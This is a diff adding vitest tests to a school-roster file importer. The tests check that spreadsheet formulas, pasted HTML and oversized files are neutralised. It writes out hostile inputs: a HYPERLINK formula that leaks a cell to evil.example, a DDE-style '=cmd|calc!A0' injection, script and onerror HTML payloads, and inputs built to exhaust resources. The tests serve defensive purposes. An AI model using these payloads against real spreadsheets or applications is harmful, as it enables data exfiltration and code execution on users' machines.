@@ -1,4 +1,5 @@
 import { deflateRawSync } from 'node:zlib'
+import * as XLSX from '@e965/xlsx'
 import { describe, expect, it } from 'vitest'
 import { readInWorker } from '../../electron/services/imports/in-worker.ts'
 import { readTable } from '../../electron/sources/roster-file/read-table.ts'
@@ -95,6 +96,71 @@ describe('files that are too much', () => {
   it('a worker that takes too long is killed', async () => {
     const text = `Nom;Prénom\n${'MARTIN;Louise\n'.repeat(19_000)}`
     await expect(parse(textFile(text), { timeoutMs: 1 })).rejects.toThrow(code('file-unreadable'))
+  })
+})
+
+describe('cells that would be run', () => {
+  it('a formula is never computed, and its text is no name', () => {
+    const bytes = workbook({
+      '6A': [
+        ['Nom', 'Prénom'],
+        ['MARTIN', 'Louise'],
+      ],
+    })
+    const book = XLSX.read(bytes, { type: 'array' })
+    const sheet = book.Sheets['6A']
+    if (sheet === undefined) throw new Error('no sheet')
+    sheet.A3 = { t: 's', v: 'PETIT', f: 'HYPERLINK("https://evil.example/?x="&A2,"PETIT")' }
+    sheet.B3 = { t: 'e', v: 0x17, w: '#REF!' }
+    sheet['!ref'] = 'A1:B3'
+    const file = read(Uint8Array.from(XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer))
+    expect(JSON.stringify(file.records)).not.toContain('evil.example')
+    expect(names(file)).toEqual(['MARTIN|Louise', 'PETIT|#REF!'])
+    expect(file.lines[1]?.reasons.map(({ reason }) => reason)).toContain('not-a-name')
+  })
+
+  it.each(['=1+1', '+33', '-2', '@SUM(A1)', '=cmd|calc!A0'])('%s is refused as a name', (cell) => {
+    const file = read(lines('Élèves;Classe', `${cell};6A`))
+    expect(file.lines[0]?.reasons.map(({ reason }) => reason)).toContain('not-a-name')
+    expect(file.records).toEqual([])
+  })
+})
+
+describe('pages that are pasted', () => {
+  const paste = (html: string) => read(textFile(html))
+  const row = (...cells: string[]) => `<tr>${cells.map((cell) => `<td>${cell}</td>`).join('')}</tr>`
+
+  it('scripts, pictures and handlers are text or nothing, never run', () => {
+    const file = paste(
+      `<meta charset="utf-8"><script>globalThis.hacked = 1</script><table onload="globalThis.hacked = 2">${row('Élèves', 'Classe')}${row('<img src=x onerror="globalThis.hacked=3">MARTIN Louise', '6A')}${row('&lt;script&gt;alert(1)&lt;/script&gt;', '6A')}</table>`,
+    )
+    expect('hacked' in globalThis).toBe(false)
+    expect(names(file)[0]).toBe('MARTIN|Louise')
+    expect(JSON.stringify(file.records)).not.toMatch(/script|onerror/)
+    expect(file.lines[1]?.reasons.map(({ reason }) => reason)).toContain('not-a-name')
+  })
+
+  it('a cell that claims a million columns, and tables inside tables without end', async () => {
+    const wide = `<table><tr><td colspan="1000000">Liste</td></tr>${row('Nom', 'Prénom', 'Classe')}${row('MARTIN', 'Louise', '6A')}</table>`
+    expect(readNames(await parse(textFile(wide)))).toEqual(['MARTIN|Louise'])
+    const nested = `${'<table><tr><td>'.repeat(20_000)}Nom`
+    await expect(parse(textFile(nested))).rejects.toThrow(expect.objectContaining({ name: 'TrousseError' }))
+  })
+})
+
+describe('files that try every limit at once', () => {
+  it('a million columns', async () => {
+    const wide = `Nom;Prénom;Classe${';x'.repeat(1_000_000)}\nMARTIN;Louise;6A`
+    expect(readNames(await parse(textFile(wide)))).toEqual(['MARTIN|Louise'])
+  })
+
+  it('nothing but NUL bytes', async () => {
+    await expect(parse(new Uint8Array(1_000_000))).rejects.toThrow(code('file-kind-unknown'))
+  })
+
+  it('one line without end, with a quote that never closes', async () => {
+    const text = `Nom;Prénom;Classe\n"MARTIN${'a'.repeat(5_000_000)};Louise;6A`
+    await expect(parse(textFile(text))).rejects.toThrow(expect.objectContaining({ name: 'TrousseError' }))
   })
 })
 
